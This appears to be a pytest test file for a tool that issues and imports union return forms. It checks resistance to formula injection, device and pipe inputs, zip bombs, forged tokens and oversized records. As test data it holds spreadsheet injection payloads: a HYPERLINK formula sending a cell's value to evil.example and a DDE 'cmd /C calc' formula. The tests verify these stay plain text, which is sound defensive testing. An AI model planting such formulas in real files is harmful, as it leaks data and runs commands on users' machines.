"""Return forms out and in, as an attacker or a careless user would use them: formulas
typed as targets, names that start a formula, devices and pipes given as forms, file
names that are not UTF-8, output folders among the sources, forms made to file for
another union, records too large to read back, and values JSON cannot hold."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from conftest import REPO, add_site, run
from return_forms import CIRCULAR, COKING, PARK, TODAY, example_project, fill, make_forms

from generator.distribution.returns.forms import questions_digest
from generator.source.loading import load_project
from generator.source.returns import obligations

CLI = [sys.executable, "-c", "from generator.cli import main; main()"]  # as the `circulars` command
SOURCE = "circulars/2024/panzhihua-2024-07.yaml"

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B6,"Click")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.fixture
def project(tmp_path: Path, monkeypatch) -> Path:
    return example_project(tmp_path, monkeypatch)


def cli(project: Path, *args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    """The command in a process of its own: its exit code, and no hang (a FIFO read would hang)."""
    env = dict(os.environ, CIRCULARS_TODAY=TODAY, PYTHONUTF8="1")
    env.pop("CIRCULARS_REGISTER", None)
    return subprocess.run(
        [*CLI, "-C", str(project), *args], capture_output=True, text=True, timeout=timeout, env=env
    )


def records(project: Path) -> dict[str, bytes]:
    folder = project / "returns"
    return {p.name: p.read_bytes() for p in folder.rglob("*.yaml")} if folder.exists() else {}


def record(project: Path, org: str = PARK) -> dict:
    return yaml.safe_load((project / "returns" / CIRCULAR / f"{org}.yaml").read_text(encoding="utf-8"))


def rewrite(path: Path, change) -> None:
    """Rewrite a workbook's parts as a program other than Excel could: change(name, data) -> data."""
    with zipfile.ZipFile(path) as package:
        parts = [(info, change(info.filename, package.read(info))) for info in package.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for info, data in parts:
            package.writestr(info.filename, data)


def set_identity(workbook, key: str, value) -> None:
    meta = workbook["circulars"]
    for row in meta.iter_rows():
        if row[0].value == key:
            row[1].value = value


# --- formulas never go out -------------------------------------------------------------------


def test_targets_typed_as_formulas_are_text_in_every_form(project):
    source = project / SOURCE
    text = source.read_text(encoding="utf-8")
    text = text.replace(
        "      - metric: 建会率\n        value: ＞90%",
        f"      - metric: '{HYPERLINK}'\n        value: \"=100%\"",
    ).replace("      - metric: 会员登记入会率（实名制登记认证）", f'      - metric: "{COMMAND}"')
    source.write_text(text, encoding="utf-8")
    forms = make_forms(project)
    path = forms / f"{PARK}.xlsx"
    with zipfile.ZipFile(path) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere on the sheet
    sheet = openpyxl.load_workbook(path).worksheets[0]
    rows = {sheet.cell(row, 1).value: row for row in range(6, sheet.max_row + 1)}
    assert rows["2.1"] and rows["2.2"]
    for cell, typed in (
        (sheet[f"C{rows['2.1']}"], HYPERLINK),
        (sheet[f"D{rows['2.1']}"], "=100%"),
        (sheet[f"C{rows['2.2']}"], COMMAND),
    ):
        assert cell.data_type == "s", cell.coordinate
        assert cell.value == typed
    # and such a form still comes back in: the given columns are the form's own text
    filled = fill(path, project / "inbox" / f"{PARK}.xlsx", {"2.1": {"F": "已完成", "H": "2024-09-01"}})
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 0, result.output
    assert record(project)["requirements"][0]["entries"][0]["status"] == "done"


def test_manifest_csv_keeps_a_name_that_starts_a_formula_as_text(project):
    organizations = project / "circulars/organizations.yaml"
    text = organizations.read_text(encoding="utf-8")
    assert "zh: 格里坪焦化有限公司工会" in text
    organizations.write_text(
        text.replace("zh: 格里坪焦化有限公司工会", 'zh: \'=HYPERLINK("https://evil.example","x")\''),
        encoding="utf-8",
    )
    result = run(project, "distribute", CIRCULAR, "--no-pdf")
    assert result.exit_code == 0, result.output
    manifest = (project / "dist" / CIRCULAR / "manifest.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(manifest)))
    names = {row["recipient_id"]: row["recipient_name"] for row in rows}
    assert names[COKING] == "'" + '=HYPERLINK("https://evil.example","x")'
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    assert names[PARK] == "格里坪特色产业园区工会联合会"  # other names as they are
    # the JSON manifest is for programs: the name exactly as in the registry
    data = json.loads((project / "dist" / CIRCULAR / "manifest.json").read_text(encoding="utf-8"))
    [copy] = [c for c in data["copies"] if c["recipient_id"] == COKING]
    assert copy["recipient_name"] == '=HYPERLINK("https://evil.example","x")'


# --- what import reads, and what it writes ---------------------------------------------------


def test_devices_pipes_and_oversized_files_are_refused_and_the_good_forms_still_recorded(project):
    forms = make_forms(project)
    inbox = project / "inbox"
    inbox.mkdir()
    (inbox / "zero.xlsx").symlink_to("/dev/zero")
    os.mkfifo(inbox / "pipe.xlsx")
    huge = inbox / "huge.yaml"
    with open(huge, "wb") as file:  # 60 MB, sparse: the size alone must refuse it
        file.truncate(60 * 1024 * 1024)
    good = fill(forms / f"{COKING}.xlsx", inbox / "good.xlsx", {"4": {"F": "进行中", "H": "2024-09-01"}})
    result = cli(
        project,
        "returns",
        "import",
        *(str(inbox / n) for n in ("zero.xlsx", "pipe.xlsx")),
        str(huge),
        str(good),
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    said = {line.split(": ", 1)[0]: line for line in result.stderr.splitlines()}
    assert "is a device, not a regular file" in said[str(inbox / "zero.xlsx")]
    assert "is a named pipe (FIFO), not a regular file" in said[str(inbox / "pipe.xlsx")]
    assert "is larger than 5 MB, the limit for a hand-written return" in said[str(huge)]
    assert f"{good}: recorded 1 answer of {COKING}" in result.stdout
    assert record(project, COKING)["requirements"][0]["entries"][0]["status"] == "in-progress"


def test_a_file_name_that_is_not_utf8_is_shown_escaped_and_the_batch_goes_on(project):
    forms = make_forms(project)
    inbox = project / "inbox"
    inbox.mkdir()
    # 报送.xlsx in GBK, as a Windows archive unzipped on Linux leaves it
    odd = os.path.join(os.fsencode(inbox), b"\xb1\xa8\xcb\xcd.xlsx")
    fill(forms / f"{PARK}.xlsx", Path(os.fsdecode(odd)), {"3": {"F": "已完成", "H": "2024-09-01"}})
    after = fill(forms / f"{COKING}.xlsx", inbox / "after.xlsx", {"4": {"F": "已完成", "H": "2024-09-02"}})
    result = cli(project, "returns", "import", os.fsdecode(odd), str(after))
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert f"{inbox}/\\xb1\\xa8\\xcb\\xcd.xlsx: recorded 1 answer of {PARK}" in result.stdout
    assert f"{after}: recorded 1 answer of {COKING}" in result.stdout
    [entry] = record(project, PARK)["requirements"][0]["entries"]
    assert entry["source"] == "\\xb1\\xa8\\xcb\\xcd.xlsx"
    assert str(record(project, COKING)["requirements"][0]["entries"][0]["date"]) == "2024-09-02"


def test_a_note_longer_than_a_cell_is_refused_with_its_cell(project):
    forms = make_forms(project)
    filled = fill(
        forms / f"{PARK}.xlsx",
        project / "inbox" / "long.xlsx",
        {"3": {"F": "已完成", "H": "2024-09-01", "I": "NOTE-TO-GROW"}},
    )
    # openpyxl cuts a cell at Excel's 32,767 characters: the long note is put in by hand
    rewrite(filled, lambda name, data: data.replace(b"NOTE-TO-GROW", "长".encode() * 6_000_000))
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert f"{filled}:进展填报!I8: 6,000,000 characters: a cell holds at most 32,767" in result.stderr
    assert records(project) == {}
    typed = project / "phoned-in.yaml"
    typed.write_text(
        f"circular: {CIRCULAR}\norganization: {COKING}\nanswers:\n"
        f"  - {{requirement: 4, status: done, note: {'长' * 40_000}}}\n",
        encoding="utf-8",
    )
    result = run(project, "returns", "import", str(typed))
    assert result.exit_code == 1
    assert f"{typed}:4:42: is longer than 32767 characters" in result.stderr
    assert records(project) == {}


def test_a_return_that_would_make_its_record_unreadable_is_refused_and_the_record_kept(project):
    """The record is read back with the 5 MB limit of every YAML file: an import must never
    write one that status, the site and the next import would refuse."""
    forms = make_forms(project)
    folder = project / "returns" / CIRCULAR
    folder.mkdir(parents=True)
    note = "长" * 10_000  # 30,000 bytes in UTF-8
    entry = {"status": "in-progress", "note": note, "source": "old.xlsx", "sha256": "0" * 64}
    entry["recorded"] = "2024-09-01T00:00:00+00:00"
    limit = 5 * 1024 * 1024

    def dump(count: int) -> bytes:
        entries = [dict(entry, sha256=f"{i:064d}") for i in range(count)]
        existing = {"circular": CIRCULAR, "organization": PARK, "requirements": [{"requirement": 3}]}
        existing["requirements"][0]["entries"] = entries
        return yaml.dump(existing, Dumper=yaml.CSafeDumper, allow_unicode=True, width=100).encode("utf-8")

    # as many entries as keep the record readable, with no room for one more
    each = len(dump(2)) - len(dump(1))
    text = dump((limit - (len(dump(1)) - each)) // each)
    path = folder / f"{PARK}.yaml"
    path.write_bytes(text)
    before = path.read_bytes()
    assert limit - 30_000 < len(before) < limit  # readable, but only just
    assert run(project, "returns", "status", CIRCULAR, "--json").exit_code == 0
    filled = fill(forms / f"{PARK}.xlsx", project / "inbox" / "more.xlsx", {"3": {"F": "已完成", "I": note}})
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert (
        f"{filled}: recording this return would make returns/{CIRCULAR}/{PARK}.yaml " in result.stderr
        and "more than the 5 MB a record may have to be read back: nothing was recorded" in result.stderr
    )
    assert path.read_bytes() == before
    status = json.loads(run(project, "returns", "status", CIRCULAR, "--json").stdout)
    [three] = [i for i in status["items"] if i["organization"] == PARK and i["item"] == "3"]
    assert three["status"] == "in-progress"  # the earlier answers are still there


# --- where forms may be written --------------------------------------------------------------


def test_forms_are_never_written_into_the_sources(project):
    shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")  # docs_dir: site, the site's own pages
    attachments = project / "circulars/2024/attachments"
    handmade = attachments / f"{PARK}.xlsx"
    handmade.write_bytes(b"a hand-made source file")
    for folder, problem in (
        ("circulars/2024/attachments", "it lies inside circulars/ (the circulars and the registry)"),
        ("circulars", "it is circulars/ (the circulars and the registry)"),
        ("site", "it is site/ (the site's own pages, docs_dir in mkdocs.yml)"),
        ("templates/x", "it lies inside templates/ (the templates)"),
        (".", "it is the project folder itself"),
        (str(project.parent), "it contains the project folder"),
    ):
        result = run(project, "returns", "forms", CIRCULAR, "-o", folder)
        assert result.exit_code == 1, folder
        assert "cannot write the return forms into" in result.stderr and problem in result.stderr, folder
    assert handmade.read_bytes() == b"a hand-made source file"
    assert not (project / "site").exists() and not list(project.glob("*.xlsx"))
    assert not (project / "templates").exists()
    make_forms(project)  # a folder of its own is fine
    assert (project / "forms" / f"{PARK}.xlsx").is_file()


def test_copies_are_never_written_into_the_sources(project):
    """distribute -o is held to the folders build and returns forms are held to."""
    for folder, problem in (
        ("circulars/2024/attachments", "it lies inside circulars/ (the circulars and the registry)"),
        (".", "it is the project folder itself"),
    ):
        result = run(project, "distribute", CIRCULAR, "-o", folder)
        assert result.exit_code == 1, folder
        assert "cannot write the copies into" in result.stderr and problem in result.stderr, folder
    assert not list((project / "circulars/2024/attachments").glob("*.docx"))
    assert not list(project.glob("*.zip")) and not list(project.glob("*.docx"))


# --- nobody files for another union ----------------------------------------------------------


def test_the_form_key_is_made_once_beside_the_register_and_kept_private(project):
    forms = make_forms(project)
    key = project / "register.sqlite3-forms.key"
    assert key.is_file() and stat.S_IMODE(key.stat().st_mode) == 0o600
    secret = key.read_bytes()
    assert len(secret.strip()) == 64
    before = (forms / f"{PARK}.xlsx").read_bytes()
    make_forms(project)
    assert key.read_bytes() == secret and (forms / f"{PARK}.xlsx").read_bytes() == before
    tokens = {}
    for org in (PARK, COKING):
        identity = dict(
            r[:2]
            for r in openpyxl.load_workbook(forms / f"{org}.xlsx")["circulars"].iter_rows(values_only=True)
        )
        tokens[org] = identity["token"]
    assert len(set(tokens.values())) == 2 and all(len(t) == 64 for t in tokens.values())
    assert secret.strip().decode() not in str(tokens)


def test_a_union_cannot_file_for_another_even_with_a_recomputed_digest(project):
    forms = make_forms(project)
    loaded = load_project(project)
    circular = loaded.source(CIRCULAR).circular
    coking = obligations(loaded.registry, circular)[COKING]

    def pose_as_coking(workbook):
        """What a union can do with its own form and the public text: claim another's identity."""
        set_identity(workbook, "organization", COKING)
        set_identity(workbook, "questions", questions_digest(circular, COKING, coking))

    inbox = project / "inbox"
    forged = fill(forms / f"{PARK}.xlsx", inbox / "forged.xlsx", {"4": {"F": "已完成"}}, pose_as_coking)
    guessed = fill(
        forms / f"{COKING}.xlsx",
        inbox / "guessed.xlsx",
        {"4": {"F": "已完成"}},
        lambda workbook: set_identity(workbook, "token", "0" * 64),
    )
    untokened = fill(
        forms / f"{COKING}.xlsx",
        inbox / "untokened.xlsx",
        {"4": {"F": "已完成"}},
        lambda workbook: set_identity(workbook, "token", None),
    )
    result = run(project, "returns", "import", str(forged), str(guessed), str(untokened))
    assert result.exit_code == 1
    for form in (forged, guessed):
        assert (
            f"{form}: the form's token is not the one issued to '{COKING}' for {CIRCULAR}: the form was "
            "changed, or made for another organization" in result.stderr
        )
    assert f"{untokened}: the form carries no token" in result.stderr
    assert records(project) == {}
    genuine = fill(forms / f"{COKING}.xlsx", inbox / "genuine.xlsx", {"4": {"F": "已完成"}})
    assert run(project, "returns", "import", str(genuine)).exit_code == 0
    assert list(records(project)) == [f"{COKING}.yaml"]


def test_forms_are_checked_with_the_key_of_the_register_they_were_made_with(project, tmp_path):
    elsewhere = tmp_path / "office" / "register.sqlite3"
    forms = make_forms(project, "--register", str(elsewhere))
    assert (tmp_path / "office" / "register.sqlite3-forms.key").is_file()
    assert not (project / "register.sqlite3-forms.key").exists()
    filled = fill(forms / f"{COKING}.xlsx", project / "inbox" / "c.xlsx", {"4": {"F": "进行中"}})
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert f"{filled}: the form's token cannot be checked: there is no form key" in result.stderr
    assert records(project) == {}
    result = run(project, "returns", "import", str(filled), "--register", str(elsewhere))
    assert result.exit_code == 0, result.output
    assert list(records(project)) == [f"{COKING}.yaml"]


# --- no tracebacks, no values JSON cannot hold ------------------------------------------------


def test_a_tampered_requirement_index_is_a_message_not_a_traceback(project):
    forms = make_forms(project)

    def negative(workbook):
        for row in workbook["circulars"].iter_rows():
            if row[0].value == "row" and row[1].value == 9:  # item 4, on row 9
                row[2].value = -1

    filled = fill(forms / f"{PARK}.xlsx", project / "inbox" / "neg.xlsx", {"4": {"F": "已完成"}}, negative)
    result = run(project, "returns", "import", str(filled))  # an exception would be raised here
    assert result.exit_code == 1
    assert f"{filled}: the form's identity sheet was changed: use the form as it was sent" in result.stderr
    assert records(project) == {}


def test_a_chart_sheet_first_is_no_traceback_for_a_form_or_a_table_file(project):
    from openpyxl.chart import BarChart, Reference

    from generator.source.table_files import TableFileError, read_table_file

    def chart_first(workbook):
        chart = BarChart()
        chart.add_data(Reference(workbook.worksheets[0], min_col=1, min_row=6, max_row=9))
        workbook.create_chartsheet("图表", 0).add_chart(chart)

    forms = make_forms(project)
    filled = fill(forms / f"{COKING}.xlsx", project / "inbox" / "c.xlsx", {"4": {"F": "进行中"}}, chart_first)
    assert openpyxl.load_workbook(filled).sheetnames[0] == "图表"
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 0, result.output  # the form's own sheet is read, the chart is not
    assert record(project, COKING)["requirements"][0]["entries"][0]["status"] == "in-progress"

    table = project / "circulars/2024/attachments/chart.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "数据"
    book.active.append(["项目", "数量"])
    book.active.append(["建会", 12])
    chart_first(book)
    book.save(table)
    rows = read_table_file(table, "attachments/chart.xlsx", None, None).rows
    assert [[c.text for c in row.cells] for row in rows] == [["项目", "数量"], ["建会", "12"]]
    with pytest.raises(TableFileError, match="the sheet '图表' is a chart, not a table of cells"):
        read_table_file(table, "attachments/chart.xlsx", None, "图表")
    del book["数据"]
    book.save(table)
    with pytest.raises(TableFileError, match="holds only charts, no sheet of cells"):
        read_table_file(table, "attachments/chart.xlsx", None, None)


def test_a_value_json_cannot_hold_is_refused_and_status_json_stays_json(project):
    forms = make_forms(project)
    filled = fill(forms / f"{COKING}.xlsx", project / "inbox" / "inf.xlsx", {"4": {"F": "进行中", "G": 7}})
    # Excel writes 1e999 as it is typed; openpyxl reads it as infinity
    rewrite(
        filled, lambda name, data: data.replace(b"<v>7</v>", b"<v>1e999</v>") if "sheet" in name else data
    )
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert f"{filled}:进展填报!G6: the achieved value 'inf' is not a number" in result.stderr
    assert records(project) == {}
    # what YAML reads as infinity elsewhere is text in a record (values are kept as typed)
    folder = project / "returns" / CIRCULAR
    folder.mkdir(parents=True)
    (folder / f"{COKING}.yaml").write_text(
        f"circular: {CIRCULAR}\norganization: {COKING}\nrequirements:\n- requirement: 4\n  entries:\n"
        "  - {status: done, value: .inf, source: x.xlsx, sha256: '0', recorded: '2024-09-01T00:00:00+00:00'}\n"
        "  - {status: done, value: 1e999, source: y.xlsx, sha256: '1', recorded: '2024-09-02T00:00:00+00:00'}\n",
        encoding="utf-8",
    )
    result = run(project, "returns", "status", CIRCULAR, "--json")
    assert result.exit_code == 0, result.output

    def strict(name):
        raise ValueError(f"not JSON: {name}")

    status = json.loads(result.stdout, parse_constant=strict)
    [four] = [i for i in status["items"] if i["organization"] == COKING]
    assert four["value"] == "1e999"


# --- a broken record stops the build ---------------------------------------------------------


def test_a_broken_return_record_fails_the_build_naming_the_record(project):
    """Published without its record, the organization would show as having reported
    nothing (overdue): the build stops instead, and says which record to fix."""
    add_site(project)
    folder = project / "returns" / CIRCULAR
    folder.mkdir(parents=True)
    (folder / f"{COKING}.yaml").write_text(f"circular: {CIRCULAR}\norganization: [\n", encoding="utf-8")
    result = run(project, "build")
    assert result.exit_code != 0, result.output
    assert "a return record cannot be read" in result.output
    assert f"returns/{CIRCULAR}/{COKING}.yaml:3:1: error:" in result.output
    assert not (project / "build" / "site").exists()


def test_a_form_that_unpacks_to_too_much_is_refused_unread(project):
    forms = make_forms(project)
    filled = fill(forms / f"{COKING}.xlsx", project / "inbox" / "bomb.xlsx", {"4": {"F": "进行中"}})
    # 70 MB of sheet in a file of some 70 KB
    padding = b"<!--" + b" " * (70 * 1024 * 1024) + b"-->"
    rewrite(filled, lambda name, data: data + padding if name == "xl/worksheets/sheet1.xml" else data)
    assert filled.stat().st_size < 1024 * 1024
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert f"{filled}: the workbook unpacks to 70 MB, more than the 64 MB a return form may" in result.stderr
    assert records(project) == {}


def test_a_damaged_form_key_is_a_message_for_forms_and_import(project):
    forms = make_forms(project)
    filled = fill(forms / f"{COKING}.xlsx", project / "inbox" / "c.xlsx", {"4": {"F": "进行中"}})
    key = project / "register.sqlite3-forms.key"
    key.write_text("not a key\n", encoding="ascii")
    result = run(project, "returns", "forms", CIRCULAR, "-o", "again")
    assert result.exit_code == 1
    assert f"error: the form key {key} is damaged (it should hold 64 hexadecimal digits)" in result.stderr
    assert not list((project / "again").glob("*.xlsx"))
    result = run(project, "returns", "import", str(filled))
    assert result.exit_code == 1
    assert f"{filled}: the form key {key} is damaged" in result.stderr
    assert records(project) == {}
